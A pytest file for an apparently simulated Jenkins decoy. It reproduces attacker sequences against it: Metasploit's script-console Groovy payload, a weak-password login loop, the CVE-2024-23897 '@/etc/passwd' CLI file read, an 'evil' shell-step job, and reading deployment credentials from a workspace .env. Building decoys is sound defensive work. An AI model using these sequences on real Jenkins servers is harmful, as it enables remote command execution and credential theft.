"""Jenkins: conversations with it, and the sequences of public tools up to what they came for."""

from __future__ import annotations

import asyncio
import base64
import html
import re
import struct
from urllib.parse import urlencode, urljoin, urlsplit

import pytest

from mirage.gateway.http.sites.jenkins import groovy
from mirage.gateway.http.sites.jenkins.site import WEAK
from mirage.world import accounts
from mirage.world.host import Host
from tests.unit.gateway.http.sites.conftest import Answer, Machine, begin


@pytest.fixture
async def jenkins(host: Host) -> Machine:
    return begin(host, "jenkins")


def _form(**values: str) -> bytes:
    return urlencode(values).encode()


async def _entered(jenkins: Machine) -> str:
    """Past the door as auxiliary/scanner/http/jenkins_login goes; the crumb of the session."""
    door = await jenkins.ask("GET", "/login")
    action = re.search(r'action="(j_([a-z0-9_]+))"', door.body.decode())
    assert (door.status, action is not None, door.field("X-Jenkins")) == (200, True, "2.426.2")
    for word in WEAK:
        answer = await jenkins.ask("POST", "/j_spring_security_check", _form(j_username="admin", j_password=word, Submit="log in"))
        if "loginError" not in answer.field("Location"):
            found = re.search(r'data-crumb-value="([a-z0-9]*)"', (await jenkins.ask("GET", "/script")).body.decode())
            assert found is not None
            return found[1]
    raise AssertionError


def _results(answer: Answer) -> list[str]:
    return [html.unescape(text) for text in re.findall(r"<pre>(.*?)</pre>", answer.body.decode(), re.DOTALL)]


async def test_metasploit_s_jenkins_script_console_runs_its_command(jenkins: Machine) -> None:
    """exploit/multi/http/jenkins_script_console: the door, the crumb, and Java that takes the command out of base64."""
    assert (await jenkins.ask("GET", "/script")).status == 403
    crumb = await _entered(jenkins)
    command = base64.b64encode(b"echo here > /tmp/ran-$(whoami)").decode()
    script = (
        f'String abc = "{command}";\nbyte[] def_;\ntry {{\ndef_ = Base64.getDecoder().decode(abc);\n'
        "} catch(groovy.lang.MissingPropertyException e) {\n"
        'Object ghi = Eval.me("new sun.misc.BASE64Decoder()");\ndef_ = ghi.decodeBuffer(abc);\n}\n'
        'String[] jkl = new String[3];\njkl[0] = "/bin/sh";\njkl[1] = "-c";\njkl[2] = new String(def_, "UTF-8");\nRuntime.getRuntime().exec(jkl);\n'
    )
    body = urlencode({"script": script, "Submit": "Run", "Jenkins-Crumb": crumb}).encode()
    assert (await jenkins.ask("POST", "/script", body)).status == 200
    assert jenkins.read("/tmp/ran-jenkins") == b"here\n"


async def test_metasploit_s_jenkins_command_reads_what_the_command_says(jenkins: Machine) -> None:
    """auxiliary/scanner/http/jenkins_command: the result stands in the second <pre>, behind `out> `."""
    crumb = await _entered(jenkins)
    script = (
        "def sout = new StringBuffer(), serr = new StringBuffer()\r\ndef proc = 'whoami'.execute()\r\n"
        'proc.consumeProcessOutput(sout, serr)\r\nproc.waitForOrKill(1000)\r\nprintln "out> $sout err> $serr"\r\n'
    )
    answer = await jenkins.ask("POST", "/script", urlencode({"script": script, "Jenkins-Crumb": crumb, "Submit": "Run"}).encode())
    assert _results(answer)[1] == "out> jenkins\n err> \n"


async def _told(jenkins: Machine, *words: str, stdin: bytes = b"", **more: str) -> tuple[str, str, int]:
    """What the command line says, its complaints and its status: two requests of one session, as published tools send them."""
    frames = b"".join(
        struct.pack(">i", len(word) + 2) + b"\0" + len(word).to_bytes(2, "big") + word for word in map(str.encode, words)
    )
    frames += struct.pack(">i", 7) + b"\x02" + b"\0\x05UTF-8" + struct.pack(">i", 0) + b"\x03"
    frames += struct.pack(">i", len(stdin)) + b"\x05" + stdin + struct.pack(">i", 0) + b"\x06"
    fields = {"Session": "a9b4a6d0-6f34-4a5c-9d0c-8f0e7d9c2b11", "Content-Type": "application/octet-stream", **more}
    down = asyncio.ensure_future(jenkins.ask("POST", "/cli?remoting=false", b"", {**fields, "Side": "download"}))
    await asyncio.sleep(0)
    await jenkins.ask("POST", "/cli?remoting=false", frames, {**fields, "Side": "upload"})
    answer = await down
    fields = ["Transfer-Encoding", "Connection", "X-Content-Type-Options", "Hudson-Duplex"]
    assert (answer.names[2:], answer.body[:1]) == (fields, b"\0")
    heard, at, status = {7: "", 8: ""}, 1, -1
    while at < len(answer.body):
        size, operation = struct.unpack(">iB", answer.body[at : at + 5])
        data, at = answer.body[at + 5 : at + 5 + size], at + 5 + size
        if operation == 4:
            (status,) = struct.unpack(">i", data)
        else:
            heard[operation] += data.decode()
    return heard[7], heard[8], status


LISTED = "Lists all the available commands or a detailed description of single command."
AT_FILES = [  # what args4j 2.33 of Debian's libargs4j-java says of the same words
    (("help", "@/etc/passwd"), "Too many arguments: {1}\njava -jar jenkins-cli.jar help [COMMAND]\n" + LISTED + "\n COMMAND : Name of the command (default: {0})\n"),
    (("help", "1", "@/etc/passwd"), "Too many arguments: {0}\njava -jar jenkins-cli.jar help [COMMAND]\n" + LISTED + "\n COMMAND : Name of the command (default: 1)\n"),
    (("who-am-i", "@/etc/passwd"), "No argument is allowed: {0}\njava -jar jenkins-cli.jar who-am-i\nReports your credential and permissions.\n"),
    (("enable-job", "@/etc/passwd"), "Too many arguments: {1}\njava -jar jenkins-cli.jar enable-job NAME\nEnables a job.\n NAME : Job name\n"),
    (("keep-build", "@/etc/passwd"), "Too many arguments: {2}\njava -jar jenkins-cli.jar keep-build NAME BUILD#\nMark the build to keep the build forever.\n NAME   : Item name\n BUILD# : Build number\n"),
    (("help", "@/nowhere"), "No such file: /nowhere\njava -jar jenkins-cli.jar help [COMMAND]\n" + LISTED + "\n COMMAND : Name of the command\n"),
    (("help", "@/etc//"), "Failed to parse /etc\njava -jar jenkins-cli.jar help [COMMAND]\n" + LISTED + "\n COMMAND : Name of the command\n"),
]  # fmt: skip


@pytest.mark.parametrize(("words", "told"), AT_FILES, ids=[" ".join(words) for words, _ in AT_FILES])
async def test_the_command_line_shows_strangers_the_first_lines_of_files(jenkins: Machine, words: tuple[str, ...], told: str) -> None:
    """CVE-2024-23897 where nobody may read anything: of `help`, `who-am-i` and what was a method, words are read before that is asked."""
    lines = jenkins.read("/etc/passwd").decode().splitlines()
    assert await _told(jenkins, *words) == ("", "\nERROR: " + told.format(*lines), 2)


async def test_the_command_line_shows_whoever_is_in_whole_files(jenkins: Machine) -> None:
    await _entered(jenkins)
    out, told, status = await _told(jenkins, "connect-node", "@/etc/passwd")
    lines = [line for line in jenkins.read("/etc/passwd").decode().splitlines() if line]
    *complaints, empty, error = told.splitlines()
    assert sorted(complaints) == sorted(f'{line}: No such agent "{line}" exists.' for line in lines)
    assert (out, empty, error, status) == (
        "",
        "",
        "ERROR: Error occurred while performing this command, see previous stderr output.",
        5,
    )


async def test_the_command_line_refuses_strangers_and_serves_an_administrator(jenkins: Machine) -> None:
    """Words and statuses of hudson.cli in 2.426.2."""
    missing = "\nERROR: anonymous is missing the Overall/Read permission\n"
    assert await _told(jenkins, "connect-node", "@/etc/passwd") == ("", missing, 6)
    assert await _told(jenkins, "restart") == ("", missing, 6)
    assert await _told(jenkins, "nosuch") == ("", "No such command nosuch\n", 2)
    assert await _told(jenkins, "who-am-i") == ("Authenticated as: anonymous\nAuthorities:\n  anonymous\n", "", 0)
    assert (await _told(jenkins, "help"))[1].startswith(
        "\nERROR: You must authenticate to access this Jenkins.\nJenkins CLI\nUsage: "
    )
    assert await _told(jenkins) == ("", "Connection closed before arguments received\n", 2)
    await _entered(jenkins)
    [job] = (await _told(jenkins, "list-jobs"))[0].splitlines()
    assert await _told(jenkins, "version") == ("2.426.2\n", "", 0)
    assert await _told(jenkins, "groovy", "=", stdin=b"println 'id -un'.execute().text") == ("jenkins\n\n", "", 0)
    assert (await _told(jenkins, "get-job", job))[0].startswith("<?xml version='1.1' encoding='UTF-8'?>\n<project>")
    assert await _told(jenkins, "get-job", job[:-1]) == ("", f"\nERROR: No such job '{job[:-1]}'; perhaps you meant '{job}'?\n", 3)
    config = b"<project><builders><hudson.tasks.Shell><command>id -un</command></hudson.tasks.Shell></builders></project>"
    assert await _told(jenkins, "create-job", "evil", stdin=config) == ("", "", 0)
    assert await _told(jenkins, "build", "evil", "-s") == ("Started evil #1\nCompleted evil #1 : SUCCESS\n", "", 0)
    assert (await _told(jenkins, "console", "evil", "-n", "1"))[0] == "Finished: SUCCESS\n"


async def test_a_wrong_password_of_a_program_is_refused_as_by_spring(jenkins: Machine) -> None:
    answer = await jenkins.ask("GET", "/api/json", fields={"Authorization": "Basic " + base64.b64encode(b"admin:nothing").decode()})
    assert (answer.status, answer.field("WWW-Authenticate")) == (401, 'Basic realm="Jenkins"')
    assert b"<h2>HTTP ERROR 401 Unauthorized</h2>" in answer.body


SCRIPTS = [
    ("println 'id'.execute().text", "uid="),
    ('println(["/bin/sh", "-c", "echo a b"].execute().text)', "a b\n"),
    ("def cmd = 'uname -s'\nprintln cmd.execute().text", "Linux\n"),
    ("println new File('/etc/passwd').text", "root:x:0:0"),
    ("println(Jenkins.instance.version)", "2.426.2"),
    ("1 + 2", "Result: 3\n"),
    ("println nothing", "groovy.lang.MissingPropertyException: No such property: nothing for class: Script1"),
    ("def list = ['a', 'b']\nlist.each { println \"<$it>\" }", "<a>\n<b>\n"),
    ("println 'nosuch'.execute().text", 'java.io.IOException: Cannot run program "nosuch": error=2, No such file or directory'),
]


@pytest.mark.parametrize(("script", "begin_of_output"), SCRIPTS)
async def test_scripts_that_people_type(jenkins: Machine, script: str, begin_of_output: str) -> None:
    crumb = await _entered(jenkins)
    answer = await jenkins.ask("POST", "/scriptText", urlencode({"script": script}).encode(), {"Jenkins-Crumb": crumb})
    assert answer.body.decode().startswith(begin_of_output), answer.body


async def test_a_job_with_a_shell_step_is_made_and_built(jenkins: Machine) -> None:
    """What tools do that find the console closed: createItem, build, consoleText."""
    crumb = await _entered(jenkins)
    config = b"<project><builders><hudson.tasks.Shell><command>id -un &amp;&amp; touch made</command></hudson.tasks.Shell></builders></project>"
    fields = {"Jenkins-Crumb": crumb, "Content-Type": "application/xml"}
    assert (await jenkins.ask("POST", "/createItem?name=evil", config, fields)).status == 200
    assert (await jenkins.ask("POST", "/job/evil/build", b"", fields)).status == 201
    log = (await jenkins.ask("GET", "/job/evil/lastBuild/consoleText")).body.decode()
    assert log.endswith("+ id -un\n+ touch made\njenkins\nFinished: SUCCESS\n")
    assert jenkins.read("/var/lib/jenkins/workspace/evil/made") == b""


async def test_a_person_makes_a_job_by_the_pages_forms_gives_it_a_step_and_builds_it(jenkins: Machine) -> None:
    """Each form is sent to where its page says, as a browser resolves that."""
    crumb = await _entered(jenkins)

    def action(page: Answer) -> str:
        found = re.search(r'<form method="post" action="([^"]*)"', page.body.decode())
        assert found is not None
        return found[1]

    made = urlencode({"name": "by hand", "mode": "hudson.model.FreeStyleProject", "Jenkins-Crumb": crumb}).encode()
    create = urljoin("/view/all/newJob", action(await jenkins.ask("GET", "/view/all/newJob")))
    answer = await jenkins.ask("POST", create, made)
    where = "/job/by%20hand/configure"
    assert (answer.status, answer.field("Location")) == (302, f"http://web.example.com{where}")
    settings = [("description", "<mine>"), ("command", "echo one > made\r\ntrue"), ("command", ""), ("Jenkins-Crumb", crumb)]
    save = urljoin(where, action(await jenkins.ask("GET", where)))
    answer = await jenkins.ask("POST", save, urlencode(settings).encode())
    assert (answer.status, answer.field("Location")) == (302, "http://web.example.com/job/by%20hand/")
    assert jenkins.read("/var/lib/jenkins/jobs/by hand/config.xml").decode() == (
        "<?xml version='1.1' encoding='UTF-8'?>\n<project>\n  <description>&lt;mine&gt;</description>\n  <builders>\n"
        "    <hudson.tasks.Shell>\n      <command>echo one &gt; made\ntrue</command>\n    </hudson.tasks.Shell>\n"
        "  </builders>\n</project>\n"
    )
    again = (await jenkins.ask("GET", where)).body.decode()
    assert re.findall(r"<textarea name=\"(\w+)\"[^>]*>\n(.*?)</textarea>", again, re.DOTALL) == [
        ("description", "&lt;mine&gt;"), ("command", "echo one &gt; made\ntrue"), ("command", ""),
    ]  # fmt: skip
    page = (await jenkins.ask("GET", "/job/by%20hand/")).body.decode()
    assert '<a href="build?delay=0sec" class="task-link" data-task-post="true">Build Now</a>' in page
    answer = await jenkins.ask("POST", "/job/by%20hand/build?delay=0sec", b"", {"Jenkins-Crumb": crumb})
    assert (answer.status, jenkins.read("/var/lib/jenkins/workspace/by hand/made")) == (201, b"one\n")
    history = (await jenkins.ask("GET", "/view/all/builds")).body.decode()
    moment = r"(\w{3} \d{1,2}, \d{4}, \d{1,2}:\d\d:\d\d [AP]M)"
    first = re.search(
        rf'<tr><td><a href="/job/by%20hand/"[^>]*>by hand</a> <a href="/job/by%20hand/1/"[^>]*>#1</a></td><td>{moment}', history
    )
    assert first is not None
    assert f"<h1>Build #1 ({first[1]})</h1>" in (await jenkins.ask("GET", "/job/by%20hand/1/")).body.decode()


async def test_what_has_pages_below_it_stands_behind_a_slash(jenkins: Machine) -> None:
    """Stapler's redirect, without which the links of such a page lead nowhere."""
    await _entered(jenkins)
    (name,) = re.findall(r'href="(/job/[^/"]+)/"', (await jenkins.ask("GET", "/")).body.decode())
    for path in (name, f"{name}/1", f"{name}/lastBuild", f"{name}/ws", "/manage", "/user/admin", "/manage/computer", "/view/all"):
        answer = await jenkins.ask("GET", f"{path}?a=b")
        query = "" if path.endswith("/ws") else "?a=b"
        assert (path, answer.status, answer.field("Location")) == (path, 302, f"http://web.example.com{path}/{query}")
    for path in ("/job/nope", f"{name}/999"):
        assert (await jenkins.ask("GET", path)).status == 404
    for path in ("/script", "/systemInfo", f"{name}/1/console", f"{name}/ws/.env"):
        assert (await jenkins.ask("GET", path)).status == 200


async def test_every_link_of_every_page_leads_somewhere(jenkins: Machine) -> None:
    await _entered(jenkins)
    waiting, seen = ["/"], {"/logout": 0}
    while waiting:
        path = waiting.pop()
        if path in seen:
            continue
        answer = await jenkins.ask("GET", path)
        seen[path] = answer.status
        page = answer.body.decode() if "html" in answer.field("Content-Type") else ""
        links = [answer.field("Location") or path]
        links += re.findall(r'(?:href|src)="([^"]*)"(?! class="task-link" data-task-post)', page)
        waiting += [urlsplit(urljoin(f"http://web.example.com{path}", html.unescape(link))).path for link in links]
    assert {path: status for path, status in seen.items() if status not in (0, 200, 302)} == {}


async def test_without_a_crumb_nothing_is_done(jenkins: Machine) -> None:
    await _entered(jenkins)
    answer = await jenkins.ask("POST", "/script", _form(script="println 1"))
    assert (answer.status, b"No valid crumb was included in the request" in answer.body) == (403, True)


async def test_a_stranger_is_sent_to_the_door(jenkins: Machine) -> None:
    """Its 541 bytes for / are those that search engines keep of 2.426.2."""
    front = await jenkins.ask("GET", "/")
    fields = ["X-Content-Type-Options", "Set-Cookie", "Expires", "X-Hudson", "X-Jenkins", "X-Jenkins-Session"]
    assert (front.status, len(front.body), front.names[5:]) == (403, 541, fields)
    answer = await jenkins.ask("GET", "/systemInfo?a=b+c*")
    assert (answer.status, answer.field("X-Jenkins")) == (403, "2.426.2")
    assert b"<script>window.location.replace('/login?from=%2FsystemInfo%3Fa%3Db%2Bc*');</script>" in answer.body


async def test_the_credential_opens_ssh(jenkins: Machine) -> None:
    crumb = await _entered(jenkins)
    script = "println new File('/var/lib/jenkins/workspace/' + Jenkins.instance.items[0] + '/.env').text"
    answer = await jenkins.ask("POST", "/scriptText", urlencode({"script": script}).encode(), {"Jenkins-Crumb": crumb})
    user, password = re.findall(r"DEPLOY_(?:USER|PASSWORD)=(\S+)", answer.body.decode())
    assert accounts.verify(jenkins.host.view(jenkins.layer), user, password.encode()) is True


@pytest.mark.parametrize(
    "script",
    [
        "x = 'a'\n" + "x = x + x\n" * 60,
        "l = [1]\n" + "l = [l, l]\n" * 60 + "println l",
        "x = 'aa'\n" + "x = x.replace('a', x)\n" * 40,
        "l = []\nl << l\nprintln l",
        "a = 9999999999\n" + "a = a * a\n" * 300 + "println a",
        "try { 1 } catch",
        "(" * 3000,
    ],
)
async def test_scripts_that_would_never_end_or_fit_do(jenkins: Machine, script: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(groovy, "STEPS", 400)  # sooner over
    crumb = await _entered(jenkins)
    answer = await jenkins.ask("POST", "/script", _form(script=script, **{"Jenkins-Crumb": crumb}))
    assert (answer.status, len(answer.body) < 1 << 20) == (200, True)


async def test_what_the_pages_bring_along_is_there(jenkins: Machine) -> None:
    door = await jenkins.ask("GET", "/login")
    for path in re.findall(r'(?:href|src)="(/static/[^"]+)"', door.body.decode()):
        assert (await jenkins.ask("GET", path)).status == 200, path
    sheet = await jenkins.ask("GET", re.findall(r'"(/static/[^"]+/jsbundles/simple-page.css)"', door.body.decode())[0])
    assert (sheet.field("Content-Type"), sheet.field("Cache-Control")) == ("text/css", "public, max-age=31536000")
    assert (await jenkins.ask("GET", "/favicon.ico")).status == 200


async def test_no_link_of_the_administrator_s_leads_nowhere(jenkins: Machine) -> None:
    await _entered(jenkins)
    for start in ("/", "/manage"):
        page = (await jenkins.ask("GET", start)).body.decode()
        for link in re.findall(r'<a [^>]*href="([^"]+)"', page):
            for where in (link,) if link.startswith("/") else (f"/{link}", f"/manage/{link}"):
                if "logout" not in where:
                    answer = await jenkins.ask("GET", where)
                    behind = urlsplit(answer.field("Location")).path
                    status = (await jenkins.ask("GET", behind)).status if behind else answer.status
                    assert (where, status) == (where, 200)
    kept = jenkins.cookies.copy()
    assert (await jenkins.ask("GET", "/logout")).status == 302
    assert (await jenkins.ask("GET", "/")).status == 403
    jenkins.cookies.update(kept)  # which Jetty knows no more
    answer = await jenkins.ask("GET", "/")
    assert (answer.status, answer.field("Set-Cookie").startswith("JSESSIONID.")) == (403, True)


async def test_what_is_exported_is_as_deep_as_it_is_asked_for(jenkins: Machine) -> None:
    """What jenkins-attack-framework, python-jenkins and Metasploit's jenkins_enum ask of it once they are in."""
    await _entered(jenkins)
    flat = (await jenkins.ask("GET", "/api/json")).json
    [job] = flat["jobs"]
    assert (list(job), job["color"]) == (["_class", "name", "url", "color"], "blue")
    deep = (await jenkins.ask("GET", "/api/json?depth=1")).json["jobs"][0]
    assert [list(build) for build in deep["builds"]] == [["_class", "number", "url"]] * len(deep["builds"])
    assert deep["nextBuildNumber"] == deep["lastBuild"]["number"] + 1 == len(deep["builds"]) + 1
    chosen = (await jenkins.ask("GET", "/api/json?tree=jobs[name,lastBuild[number,result]{0,1}]")).json
    last = {"_class": "hudson.model.FreeStyleBuild", "number": deep["lastBuild"]["number"], "result": "SUCCESS"}
    assert chosen == {"_class": "hudson.model.Hudson", "jobs": [{"_class": job["_class"], "name": job["name"], "lastBuild": last}]}
    xml = (await jenkins.ask("GET", "/api/xml?tree=jobs[name]")).body.decode()
    assert xml == f"<hudson _class='hudson.model.Hudson'><job _class='{job['_class']}'><name>{job['name']}</name></job></hudson>"
    assert (await jenkins.ask("GET", f"/job/{job['name']}/lastBuild/consoleText")).body.endswith(b"Finished: SUCCESS\n")
    stored = (await jenkins.ask("GET", "/credentials/store/system/domain/_/api/json?tree=credentials[id,displayName]")).json
    assert [(one["id"], one["displayName"]) for one in stored["credentials"]] == [("deploy", "jenkins/****** (deployment)")]
    assert (await jenkins.ask("GET", f"/job/{job['name']}/ws/.env")).body.startswith(b"DEPLOY_USER=jenkins\nDEPLOY_PASSWORD=")
    assert (await jenkins.ask("GET", f"/job/{job['name']}/ws/../../secrets/master.key")).status == 404


async def test_each_build_has_a_number_of_its_own_and_its_result(jenkins: Machine) -> None:
    fields = {"Jenkins-Crumb": await _entered(jenkins), "Content-Type": "application/xml"}
    for command in ("true", "false"):
        config = (
            f"<project><builders><hudson.tasks.Shell><command>{command}</command></hudson.tasks.Shell></builders></project>".encode()
        )
        await jenkins.ask("POST", "/createItem?name=twice" if command == "true" else "/job/twice/config.xml", config, fields)
        where = (await jenkins.ask("POST", "/job/twice/build", b"", fields)).field("Location")
        left = (await jenkins.ask("GET", where.removeprefix("http://web.example.com") + "api/json")).json
        assert left["executable"]["url"].endswith(f"/job/twice/{left['executable']['number']}/")
    told = (await jenkins.ask("GET", "/job/twice/api/json?tree=builds[number,result],color,lastSuccessfulBuild[number]")).json
    assert [(build["number"], build["result"]) for build in told["builds"]] == [(2, "FAILURE"), (1, "SUCCESS")]
    assert (told["color"], told["lastSuccessfulBuild"]["number"]) == ("red", 1)
    assert b"<result>FAILURE</result>" in jenkins.read("/var/lib/jenkins/jobs/twice/builds/2/build.xml")


async def test_a_stranger_may_ask_who_he_is_and_little_else(jenkins: Machine) -> None:
    """Jenkins.ALWAYS_READABLE_PATHS and the unprotected root actions, by which scanners know it."""
    assert (await jenkins.ask("GET", "/whoAmI/api/json")).json == {
        "_class": "hudson.security.WhoAmI", "anonymous": True, "authenticated": True, "authorities": ["anonymous"], "name": "anonymous",
    }  # fmt: skip
    statuses = {
        path: (await jenkins.ask("GET", path)).status
        for path in (
            "/whoAmI/",
            "/signup",
            "/tcpSlaveAgentListener/",
            "/git/notifyCommit?url=x",
            "/api/xml",
            "/jnlpJars/jenkins-cli.jar",
        )
    }
    assert list(statuses.values()) == [200, 404, 404, 401, 403, 403]
